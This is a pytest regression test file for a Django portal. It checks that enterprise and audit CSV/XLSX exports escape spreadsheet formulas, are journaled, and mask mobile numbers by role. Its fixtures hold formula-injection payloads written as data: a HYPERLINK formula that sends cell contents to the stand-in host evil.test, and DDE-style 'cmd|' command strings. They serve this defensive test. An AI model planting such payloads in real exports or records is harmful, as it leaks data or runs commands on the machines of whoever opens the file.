"""Every export escapes spreadsheet formulas, is journaled, and masks mobile numbers for the
roles that do not need them (issue 9 §5).

Regression: the admin's enterprise export wrote `=HYPERLINK(…)` raw into CSV and XLSX (the
audit export escaped it), and a bulk export with full mobile numbers left no trace.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.utils import timezone
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from enterprises.resources import EnterpriseResource
from portal import exports, journal
from portal.models import JournalEntry
from portal.roles import Role
from tests.enterprises import factories
from tests.factories import PASSWORD, user_with

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
APPS = ("portal", "enterprises", "liaisons", "filings", "supplies", "workers")
EXPORT_URL = "/admin/enterprises/enterprise/export/"
COLUMNS = [
    "credit_code", "name", "legal_representative", "industry", "district", "address",
    "contact_name", "contact_phone", "employee_count", "is_key_project", "spectrum",
]
# Text a spreadsheet would run, as an enterprise's own staff could type it into its record.
HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.test/?\"&A1,\"点击\")",
    "legal_representative": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "+1+2 杭州市",
    "contact_name": "-2+3",
}
FORMULA_CELLS = [
    "=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1",
]


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell):
    assert exports.escape_cell(cell) == "'" + cell
    assert exports.escape_cell(exports.escape_cell(cell)) == "'" + cell


@pytest.mark.parametrize("value", ["张三", "13812345678", "a=b", "", "'=quoted", 42, -5, None])
def test_other_values_are_left_alone(value):
    assert exports.escape_cell(value) == value


def test_the_csv_writer_escapes_every_cell():
    out = io.StringIO()
    exports.csv_writer(out).writerows([["=1", "ok", None, -3], ["@x", "+y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1", "ok", "", "-3"], ["'@x", "'+y"],
    ]


def test_every_csv_writer_in_the_apps_is_the_escaping_one():
    """A new export that calls csv.writer (or builds a workbook) itself fails here."""
    raw = re.compile(r"\bcsv\.writer\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in APPS for path in (ROOT / app).rglob("*.py")
        if path != ROOT / "portal" / "exports.py" and raw.search(path.read_text())
    ]
    assert offenders == []


def test_every_admin_export_is_journaled_and_its_resources_escape():
    exporting = [model_admin for model_admin in admin.site._registry.values()
                 if isinstance(model_admin, ExportMixin)]
    assert exporting, "the enterprise admin exports"
    for model_admin in exporting:
        assert isinstance(model_admin, exports.JournaledExportMixin), type(model_admin)
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, exports.ExportResource), resource


# --- the admin's enterprise export ------------------------------------------------------------


@pytest.fixture
def hostile_enterprise(admin_user):
    return factories.enterprise(actor=admin_user, **HOSTILE)


def _export(client, user, file_format: str, query: str = ""):
    client.login(username=user.username, password=PASSWORD)
    index = {"csv": "0", "xlsx": "1"}[file_format]
    return client.post(EXPORT_URL + query, {
        "format": index, "resource": "0",
        **{f"enterpriseresource_{name}": "on" for name in COLUMNS},
    })


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no cell is a formula
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_export_escapes_every_formula(client, admin_user, hostile_enterprise,
                                            file_format):
    response = _export(client, admin_user, file_format)
    assert response.status_code == 200
    rows = _csv_rows(response) if file_format == "csv" else _xlsx_rows(response)
    header, values = rows[0], rows[1]
    assert header == COLUMNS
    record = dict(zip(header, values, strict=True))
    for name, text in HOSTILE.items():
        assert record[name] == "'" + text
    for row in rows[1:]:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(exports.FORMULA_START))


def test_admin_export_is_journaled_with_who_what_and_how_many(client, admin_user,
                                                              hostile_enterprise):
    factories.enterprise(actor=admin_user)
    before = JournalEntry.objects.count()
    response = _export(client, admin_user, "csv", "?is_key_project__exact=0")
    assert response.status_code == 200
    entry = JournalEntry.objects.filter(action=exports.EXPORTED).get()
    assert entry.seq > before
    assert entry.actor == admin_user
    assert entry.object_id == "enterprises.enterprise"
    assert entry.data["rows"] == 2 == len(_csv_rows(response)) - 1
    assert entry.data["filters"] == {"is_key_project__exact": "0"}
    assert entry.data["fields"] == COLUMNS
    assert entry.data["format"] == "csv"
    assert entry.data["masked_phones"] == 0
    assert journal.verify().ok


def test_admin_export_with_unknown_filters_is_a_400_not_a_500(client, admin_user):
    client.login(username=admin_user.username, password=PASSWORD)
    assert client.get(EXPORT_URL + "?no_such_field=1").status_code == 400
    assert not JournalEntry.objects.filter(action=exports.EXPORTED).exists()


def test_officials_get_mobile_numbers_masked(client, admin_user):
    from liaisons import services as liaison_services

    enterprise = factories.enterprise(actor=admin_user, contact_phone="13812345678")
    liaison = user_with(Role.LIAISON, is_staff=True)
    liaison_services.assignment_create(
        actor=admin_user, official=liaison, enterprise=enterprise, kind="resident_officer",
        active_from=timezone.localdate(),
    )
    response = _export(client, liaison, "csv")
    record = dict(zip(*_csv_rows(response)[:2], strict=True))
    assert record["contact_phone"] == "138****5678"
    assert "13812345678" not in response.content.decode("utf-8-sig")
    entry = JournalEntry.objects.filter(action=exports.EXPORTED).get()
    assert entry.actor == liaison and entry.data["masked_phones"] == 1


def test_administrators_get_mobile_numbers_in_full(client, admin_user):
    factories.enterprise(actor=admin_user, contact_phone="13812345678")
    record = dict(zip(*_csv_rows(_export(client, admin_user, "csv"))[:2], strict=True))
    assert record["contact_phone"] == "13812345678"


@pytest.mark.parametrize("role", [Role.INSPECTOR, Role.LABOR_OFFICER, Role.SUPPLY_OFFICER])
def test_the_resource_masks_numbers_for_officials_and_inspectors(admin_user, role):
    from enterprises import services as registry_services

    enterprise = factories.enterprise(actor=admin_user, contact_phone="13912345678")
    official = user_with(role)
    if role != Role.INSPECTOR:
        registry_services.jurisdiction_add(user=official, district=enterprise.district,
                                           actor=admin_user)
    dataset = EnterpriseResource(user=official).export(
        queryset=type(enterprise).objects.all())
    assert [row[COLUMNS.index("contact_phone")] for row in dataset] == ["139****5678"]


def test_an_enterprises_own_staff_get_its_numbers_in_full(admin_user):
    from enterprises import services as registry_services

    enterprise = factories.enterprise(actor=admin_user, contact_phone="13712345678")
    member = user_with(Role.ENTERPRISE)
    registry_services.membership_add(user=member, enterprise=enterprise, actor=admin_user)
    dataset = EnterpriseResource(user=member).export(queryset=type(enterprise).objects.all())
    assert [row[COLUMNS.index("contact_phone")] for row in dataset] == ["13712345678"]
    entry = JournalEntry.objects.filter(action=exports.EXPORTED).get()
    assert entry.actor == member and entry.data["rows"] == 1


# --- the audit journal's CSV ------------------------------------------------------------------


def test_audit_export_escapes_formulas_through_the_same_function(client):
    from django.db import transaction

    with transaction.atomic():
        journal.record_event(action="portal.test.event", actor=None, object_type="=cmd|x",
                             object_id="@SUM(1)")
    inspector = user_with(Role.INSPECTOR)
    client.login(username=inspector.username, password=PASSWORD)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(row for row in rows if "portal.test.event" in row)
    assert "'=cmd|x" in row and "'@SUM(1)" in row
    for row in rows:
        assert not any(cell.startswith(exports.FORMULA_START) for cell in row)
